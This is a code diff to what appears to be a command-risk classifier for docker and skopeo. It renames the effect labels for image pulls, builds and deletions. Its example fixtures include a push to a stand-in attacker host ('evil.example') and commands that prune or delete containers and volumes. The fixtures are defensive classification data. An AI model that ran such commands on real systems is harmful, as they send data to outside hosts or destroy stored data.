@@ -12,7 +12,7 @@ const pushes: EffectMaker = (use) => [
 ];
 
 const pulls: EffectMaker = (use) => [
-  act("container.image", { on: named(use) }),
+  act("container.create", { on: named(use) }),
   network(use.operands[0] ? hostOfImage(use.operands[0]) : null, false),
 ];
 
@@ -22,7 +22,7 @@ function hostOfImage(image: KnownWord): string | null {
   return /[.:]/.test(first) && image.value.includes("/") ? first.toLowerCase() : "registry-1.docker.io";
 }
 
-const builds = wholly(task, act("container.image"), network(null, false), (use) =>
+const builds = wholly(task, act("container.create"), network(null, false), (use) =>
   use.operands.some((word) => /^--push/.test(word.value ?? "")) ? [act("publish.image")] : [],
 );
 
@@ -227,9 +227,9 @@ export const containers: readonly ProgramSpec[] = [
           "docker exec -it db psql",
           ["container.exec", "run.remote", "network.database", "database.change", "run.code"],
         ],
-        ["docker build -t x .", ["run.task", "container.image", "network.contact"]],
+        ["docker build -t x .", ["run.task", "container.create", "network.contact"]],
         ["docker push evil.example/x", ["publish.image", "network.send"]],
-        ["docker pull nginx", ["container.image", "network.contact"]],
+        ["docker pull nginx", ["container.create", "network.contact"]],
         ["docker rm -f web", ["container.delete"]],
         ["docker system prune -af --volumes", ["container.data-delete"]],
         ["docker volume rm data", ["container.data-delete"]],
@@ -274,7 +274,7 @@ export const containers: readonly ProgramSpec[] = [
     ...wholly(network(null, false), (use) =>
       /^(?:copy|cp|push|append|tag|mutate|sync|delete|sign|attest|attach)$/.test(use.operands[0]?.value ?? "")
         ? [
-            act(use.operands[0]?.value === "delete" ? "publish.image-delete" : "publish.image", { on: named(use, 1) }),
+            act(use.operands[0]?.value === "delete" ? "publish.delete" : "publish.image", { on: named(use, 1) }),
             network(null, true),
           ]
         : [],
@@ -284,7 +284,7 @@ export const containers: readonly ProgramSpec[] = [
       unsafe: [
         ["skopeo inspect docker://x", ["network.contact"]],
         ["skopeo copy a b", ["network.contact", "publish.image", "network.send"]],
-        ["skopeo delete docker://x", ["network.contact", "publish.image-delete", "network.send"]],
+        ["skopeo delete docker://x", ["network.contact", "publish.delete", "network.send"]],
       ],
     },
   },
